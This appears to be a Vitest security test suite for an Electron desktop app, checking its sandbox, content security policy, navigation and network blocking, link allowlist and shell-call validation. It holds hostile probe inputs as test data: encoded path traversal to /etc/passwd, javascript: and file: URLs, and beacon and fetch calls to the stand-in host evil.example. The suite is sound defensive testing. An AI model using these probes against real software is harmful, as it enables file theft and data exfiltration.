import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Program } from '../standin/driver.ts';
import { useDesktop } from './desk.ts';

const start = useDesktop();
let program: Program;
beforeAll(async () => {
  const folder = mkdtempSync(join(tmpdir(), 'tandem-security-'));
  program = start(join(folder, 'home'), { env: { XDG_CONFIG_HOME: join(folder, 'config') } });
  await program.shows('state', 'ready');
  return async () => {
    await program.kill();
    rmSync(folder, { recursive: true, force: true });
  };
});

/** What a page gets for an address of its own program. */
const fetched = (path: string): string =>
  `fetch(${JSON.stringify(path)}).then(async (r) => [r.status, await r.text(), r.headers.get('content-security-policy')])`;

describe('what a page can do', () => {
  it('[DT6] it has the bridge and nothing else: no Node, no Electron, and the bridge cannot be changed', async () => {
    await expect(program.do('sandboxed')).resolves.toBe(true);
    await expect(program.do('options')).resolves.toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      webSecurity: true,
      webviewTag: false,
      navigateOnDragDrop: false,
    });
    const types = "[typeof require, typeof process, typeof module, typeof ipcRenderer, typeof Buffer].join(' ')";
    await expect(program.evaluate(types)).resolves.toBe('undefined undefined undefined undefined undefined');
    await expect(program.evaluate('Object.keys(tandem).sort()')).resolves.toEqual([
      'call',
      'onEngine',
      'onRoute',
      'shell',
      'subscribe',
    ]);
    const changed = 'try { window.tandem = 1 } catch {} try { tandem.call = 1 } catch {} typeof tandem.call';
    await expect(program.evaluate(changed)).resolves.toBe('function');
  });

  it('[DT7] it is loaded from app://ui, with the policy of pages as a header that the browser enforces', async () => {
    const [status, , policy] = await program.evaluate<[number, string, string]>(fetched('./index.html'));
    expect(status).toBe(200);
    expect(policy).toBe(
      "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'",
    );
    const inline = `new Promise((resolve) => {
      const seen = [];
      document.addEventListener('securitypolicyviolation', (e) => {
        seen.push(e.effectiveDirective);
        if (seen.length === 2) resolve(seen);
      });
      const script = document.createElement('script');
      try { script.text = 'window.ran = true'; } catch { seen.push('refused'); }
      document.body.append(script);
      try { document.body.innerHTML = '<b>x</b>'; } catch {}
    })`;
    await expect(program.evaluate(inline)).resolves.toEqual(['refused', 'require-trusted-types-for']);
    await expect(program.evaluate('window.ran')).resolves.toBeUndefined();
    const evil = "new Promise((done) => setTimeout(() => { try { done(eval('1')) } catch (e) { done(e.name) } }))";
    await expect(program.evaluate(evil)).resolves.toBe('EvalError');
    await expect(program.evaluate("getComputedStyle(document.querySelector('h1')).color")).resolves.toBe(
      'rgb(1, 2, 3)',
    );
  });

  it.each([
    ['a file beside it that no page names', './not-listed.txt'],
    ['the manifest', './.vite/manifest.json'],
    ['a way out of the folder', './assets/%2e%2e/not-listed.txt'],
    ['an encoded way out', './..%2f..%2fetc%2fpasswd'],
    ['something that is not there', './nothing.js'],
  ])('[DT7] %s is not found', async (_, path) => {
    const [status, text] = await program.evaluate<[number, string]>(fetched(path));
    expect([status, text]).toEqual([404, 'Not found']);
  });

  it('[DT8] it goes to no other page, opens none, and embeds none', async () => {
    await program.do('click', '#outside');
    await program.evaluate("void window.open('https://evil.example/popup')");
    await program.evaluate("void window.open('https://www.sqlite.org/lang.html')");
    await program.until(
      () => program.record(),
      ({ opened }) => opened.length > 0,
    );
    await expect(program.evaluate('[location.href, document.title]')).resolves.toEqual([
      'https://ui.app.test/index.html',
      'Test page',
    ]);
    for (const name of ['will-navigate', 'will-redirect', 'will-frame-navigate'])
      await expect(program.do('emitOnContents', name, 'https://evil.example/')).resolves.toBe(true);
    await expect(program.do('emitOnContents', 'will-navigate', 'app://ui/index.html#/log')).resolves.toBe(false);
    await expect(program.do('emitOnContents', 'will-navigate', 'app://ui.evil.example/')).resolves.toBe(true);
    await expect(program.do('emitOnContents', 'will-attach-webview', '')).resolves.toBe(true);
    expect((await program.record()).opened).toEqual(['https://www.sqlite.org/lang.html']);
    expect(await program.windows()).toHaveLength(1);
  });

  it('[DT8] a link opens in the browser where its host is on the list, and is refused else', async () => {
    const before = (await program.record()).opened.length;
    const open = (url: string): Promise<unknown> =>
      program.evaluate(`tandem.shell('link.open', { url: ${JSON.stringify(url)} })`);
    await expect(open('https://www.mongodb.com/docs/')).resolves.toEqual({ ok: true, value: { opened: true } });
    for (const url of [
      'http://www.mongodb.com/',
      'https://www.mongodb.com.evil.example/',
      'https://a:b@www.mongodb.com/',
      'https://www.mongodb.com:8443/',
      'file:///etc/passwd',
      'javascript:1',
      'nonsense',
    ])
      await expect(open(url)).resolves.toEqual({ ok: true, value: { opened: false } });
    expect((await program.record()).opened.slice(before)).toEqual(['https://www.mongodb.com/docs/']);
  });

  it('[DT9] it is given no right: no camera, place, clipboard, notification or device', async () => {
    await expect(program.do('permissions')).resolves.toEqual([false, false, false]);
  });

  it('[DT10] no request leaves the machine', async () => {
    const tried = await program.evaluate("fetch('https://evil.example/x').then(() => 'answered', (e) => e.name)");
    expect(tried).toBe('TypeError');
    await program.evaluate("void (new Image().src = 'https://evil.example/pixel.png')");
    await program.evaluate("navigator.sendBeacon('https://evil.example/beacon', 'x')");
    expect((await program.record()).external).toEqual([]);
  });

  it('[DT5] a message that comes from another page than ours reaches nothing', async () => {
    for (const origin of ['https://evil.example', 'app://ui', null])
      await expect(program.do('invokeAs', origin, { t: 'shell', name: 'quit', params: {} })).resolves.toMatchObject({
        ok: false,
        error: { code: 'permission' },
      });
  });

  it('[DT11] what it asks of the shell is checked: unknown names and other forms are refused', async () => {
    const shell = (name: string, params: unknown): Promise<unknown> =>
      program.evaluate(`tandem.shell(${JSON.stringify(name)}, ${JSON.stringify(params)})`);
    await expect(shell('run', { command: 'rm' })).resolves.toMatchObject({ ok: false, error: { code: 'unsupported' } });
    await expect(shell('__proto__', {})).resolves.toMatchObject({ ok: false, error: { code: 'unsupported' } });
    await expect(shell('theme.set', { theme: 'pink' })).resolves.toMatchObject({ ok: false, error: { code: 'usage' } });
    await expect(shell('theme.set', { theme: 'dark', more: 1 })).resolves.toMatchObject({
      ok: false,
      error: { code: 'usage' },
    });
  });

  it('[DT11] it can have a file chosen, the theme changed, and the program start with the computer', async () => {
    const picked = program.evaluate("tandem.shell('file.pick', { kind: 'sqlite' })");
    await program.until(
      () => program.record(),
      ({ dialogs }) => dialogs.length === 1,
    );
    await program.do('answer', { canceled: false, filePaths: ['/data/shop.db'] });
    await expect(picked).resolves.toEqual({ ok: true, value: { path: '/data/shop.db' } });
    await expect(program.evaluate("tandem.shell('theme.set', { theme: 'dark' })")).resolves.toEqual({
      ok: true,
      value: { theme: 'dark', dark: true },
    });
    await expect(program.evaluate("matchMedia('(prefers-color-scheme: dark)').matches")).resolves.toBe(true);
    await expect(program.evaluate("tandem.shell('login.get', {})")).resolves.toMatchObject({
      ok: true,
      value: { on: false },
    });
  });
});
